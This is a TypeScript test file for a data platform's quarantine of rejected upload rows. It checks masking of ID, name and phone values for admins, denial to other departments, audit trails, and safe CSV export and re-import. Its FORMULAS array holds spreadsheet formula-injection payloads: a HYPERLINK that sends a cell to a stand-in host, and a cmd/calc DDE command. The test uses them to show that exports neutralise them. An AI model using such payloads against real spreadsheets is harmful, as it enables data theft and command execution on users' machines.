/**
 * Rejected rows are data. As found: the job page gave an admin L3/L4 values in clear while the same
 * admin saw them masked in the preview; and the quarantine CSV carried `=…` cells a spreadsheet
 * runs as formulas, turned 18-digit ID numbers into 1.10101E+17 and gave reasons only as codes.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { drivers } from '../helpers/platform.ts';
import { id, openCity, type City } from '../helpers/city.ts';

const FIELDS = [
  { name: 'sfzh', title: '身份证号', type: 'string', element: 'id_card', required: true, sensitivity: 'L4' },
  { name: 'xm', title: '姓名', type: 'string', required: true, sensitivity: 'L3' },
  { name: 'sj', title: '手机号码', type: 'string', element: 'mobile', sensitivity: 'L3' },
  { name: 'bz', title: '备注', type: 'string', sensitivity: 'L1' },
  { name: 'je', title: '金额', type: 'number', sensitivity: 'L2' },
];
const HEADER = '身份证号,姓名,手机号码,备注,金额,内部编号';
const badId = `${id(2).slice(0, 17)}${id(2).endsWith('0') ? '1' : '0'}`;
const FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1'];

for (const driver of drivers()) {
  describe(`quarantine reads and exports (${driver})`, () => {
    let c: City;
    let jobId = '';

    before(async () => {
      c = await openCity(driver);
      await c.register(c.officers.GA, 'GA', 'GA_BZ', FIELDS, { primaryKey: ['sfzh'] });
      // 备注 may hold letters and digits only, so every formula below is rejected and lands in the quarantine
      const s = await c.req('PUT', '/datasets/GA_BZ/ingest/settings', c.officers.GA, { rules: { fields: { bz: { pattern: '[A-Za-z0-9 ]*' } } } });
      assert.equal(s.statusCode, 200, s.body);
      const q = (v: string) => `"${v.replaceAll('"', '""')}"`;
      const lines = [
        HEADER,
        `${id(1)},张三,13812345678,ok,1,N-1`,
        `${badId},李四,13912345678,ok,2,N-2`, // checksum
        ...FORMULAS.map((f, i) => `${id(10 + i)},王五${i},13712345678,${q(f)},-5,N-${i}`),
      ];
      const r = await c.upload(c.officers.GA, 'GA_BZ', 'bz.csv', lines.join('\n') + '\n');
      assert.equal(r.statusCode, 201, r.body);
      const j = r.json();
      assert.deepEqual([j.status, j.accepted, j.rejected], ['succeeded', 1, 1 + FORMULAS.length], j.error);
      jobId = j.jobId;
    });
    after(() => c.close());

    test('the owning department reads rejected rows in clear, marked as not masked', async () => {
      const r = await c.req('GET', `/ingest/jobs/${jobId}/quarantine?limit=100`, c.officers.GA);
      assert.equal(r.statusCode, 200, r.body);
      const page = r.json();
      assert.equal(page.masked, false);
      const e = page.items.find((x: { row: number }) => x.row === 2);
      assert.deepEqual([e.field, e.rule, e.reason, e.value, e.message], ['sfzh', 'standard', 'checksum', badId, '身份证号：校验位错误']);
      assert.equal(JSON.parse(e.record).姓名, '李四');
    });

    test('an admin (outside the department) sees L3/L4 values masked — in the entries, the records and the CSV', async () => {
      const r = await c.req('GET', `/ingest/jobs/${jobId}/quarantine?limit=100`, c.admin);
      assert.equal(r.statusCode, 200, r.body);
      const page = r.json();
      assert.equal(page.masked, true);
      assert.deepEqual(page.maskedFields.sort(), ['sfzh', 'sj', 'xm', '内部编号'].sort());
      const e = page.items.find((x: { row: number }) => x.row === 2);
      assert.equal(e.value, `${badId.slice(0, 6)}********${badId.slice(-4)}`);
      const rec = JSON.parse(e.record);
      assert.deepEqual([rec.身份证号, rec.姓名, rec.手机号码, rec.备注, rec.金额, rec.内部编号, rec._raw], [`${badId.slice(0, 6)}********${badId.slice(-4)}`, '李*', '139****5678', 'ok', '2', '***', null]);
      assert.ok(!r.body.includes(badId) && !r.body.includes('李四') && !r.body.includes('13912345678'), 'no clear L3/L4 value anywhere in the answer');

      const csv = await c.req('GET', `/ingest/jobs/${jobId}/quarantine?format=csv`, c.admin);
      assert.equal(csv.statusCode, 200);
      assert.equal(csv.headers['x-govhub-masked'], 'true');
      assert.ok(!csv.body.includes(badId) && !csv.body.includes('李四') && !csv.body.includes('13912345678'));
      // both reads are in the trail, with the basis and what was masked
      const reads = await c.events('ingest.quarantine_read', jobId);
      const mine = reads.filter((x) => x.actorName === 'admin');
      assert.deepEqual(mine.map((x) => [x.details.format, x.details.basis]), [['json', 'admin'], ['csv', 'admin']]);
    });

    test('the rejected rows under the file\'s columns: masked for an admin, unknown to another department, audited', async () => {
      const admin = await c.req('GET', `/ingest/jobs/${jobId}/quarantine/rows?limit=100`, c.admin);
      assert.equal(admin.statusCode, 200, admin.body);
      const page = admin.json();
      assert.equal(page.masked, true);
      const two = page.items.find((x: { row: number }) => x.row === 2);
      assert.deepEqual([two.values.身份证号, two.values.姓名, two.values.手机号码, two.values.内部编号, two.raw], [`${badId.slice(0, 6)}********${badId.slice(-4)}`, '李*', '139****5678', '***', null]);
      assert.ok(!admin.body.includes(badId) && !admin.body.includes('李四') && !admin.body.includes('13912345678'), 'no clear L3/L4 value anywhere in the answer');
      // another department's officer, with the job id in hand, learns nothing — not even that it exists
      const other = await c.req('GET', `/ingest/jobs/${jobId}/quarantine/rows`, c.officers.MZ);
      assert.equal(other.statusCode, 404);
      assert.ok(!other.body.includes('李四') && !other.body.includes(badId));
      const reads = await c.events('ingest.quarantine_read', jobId);
      assert.ok(reads.some((x) => x.actorName === 'admin' && x.details.format === 'rows' && x.details.basis === 'admin'), 'the rows read is in the trail');
      assert.ok(!reads.some((x) => x.details.format === 'rows' && x.actorName !== 'admin'), 'the refused read recorded no read');
    });

    test('exports are safe to open: no formula runs, ID numbers keep every digit, reasons in words', async () => {
      const r = await c.req('GET', `/ingest/jobs/${jobId}/quarantine?format=csv`, c.officers.GA);
      assert.equal(r.statusCode, 200);
      assert.equal(r.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', 'UTF-8 with BOM');
      const rows = parse(r.body, { bom: true }) as string[][];
      assert.deepEqual(rows[0], ['_row', '_errors', '_reasons', '_raw', ...HEADER.split(',')]);
      const cell = (row: string[], h: string) => row[rows[0]!.indexOf(h)]!;
      const byRow = new Map(rows.slice(1).map((x) => [x[0], x]));
      // every cell a spreadsheet would run starts with a quote now; a plain negative number stays a number
      FORMULAS.forEach((f, i) => {
        const row = byRow.get(String(3 + i))!;
        assert.equal(cell(row, '备注'), `'${f}`);
        assert.equal(cell(row, '金额'), '-5');
      });
      for (const row of rows.slice(1)) for (const v of row) assert.ok(!/^[=+\-@\t\r]/.test(v) || /^-?\d+(\.\d+)?$/.test(v) || /^="\d+"$/.test(v), `unsafe cell ${JSON.stringify(v)}`);
      // the ID number as ="…" (kept as text, all 18 digits), reasons beside the codes
      const two = byRow.get('2')!;
      assert.equal(cell(two, '身份证号'), /^\d+$/.test(badId) ? `="${badId}"` : badId);
      assert.equal(cell(two, '_errors'), '身份证号:standard(checksum)');
      assert.equal(cell(two, '_reasons'), '身份证号：校验位错误');
      assert.equal(cell(byRow.get('3')!, '_reasons'), '备注：格式不符合规则');
    });

    test('corrected in a spreadsheet and sent back, the safe cells read as they were', async () => {
      const r = await c.req('GET', `/ingest/jobs/${jobId}/quarantine?format=csv`, c.officers.GA);
      const rows = parse(r.body, { bom: true }) as string[][];
      // fix row 3's note; keep its ID number cell exactly as exported (="…")
      const header = rows[0]!;
      const row3 = rows.find((x) => x[0] === '3')!.slice();
      row3[header.indexOf('备注')] = 'fixed';
      const back = [header, row3].map((x) => x.map((v) => `"${v.replaceAll('"', '""')}"`).join(',')).join('\n');
      const retry = await c.req('GET', `/ingest/jobs/${jobId}`, c.officers.GA);
      assert.equal(retry.statusCode, 200);
      const { upload } = await import('../helpers/upload.ts');
      const j = (await upload(c.app, `/ingest/jobs/${jobId}/retry`, c.officers.GA, 'fixed.csv', back)).json();
      assert.deepEqual([j.status, j.accepted, j.rejected], ['succeeded', 1, 0], j.error);
      const rowsRead = (await c.req('GET', `/datasets/GA_BZ/rows?limit=10`, c.officers.GA)).json();
      assert.ok(rowsRead.rows.some((x: { sfzh: string; bz: string }) => x.sfzh === id(10) && x.bz === 'fixed'), 'the ID number came back with all its digits, not ="…"');
    });
  });
}
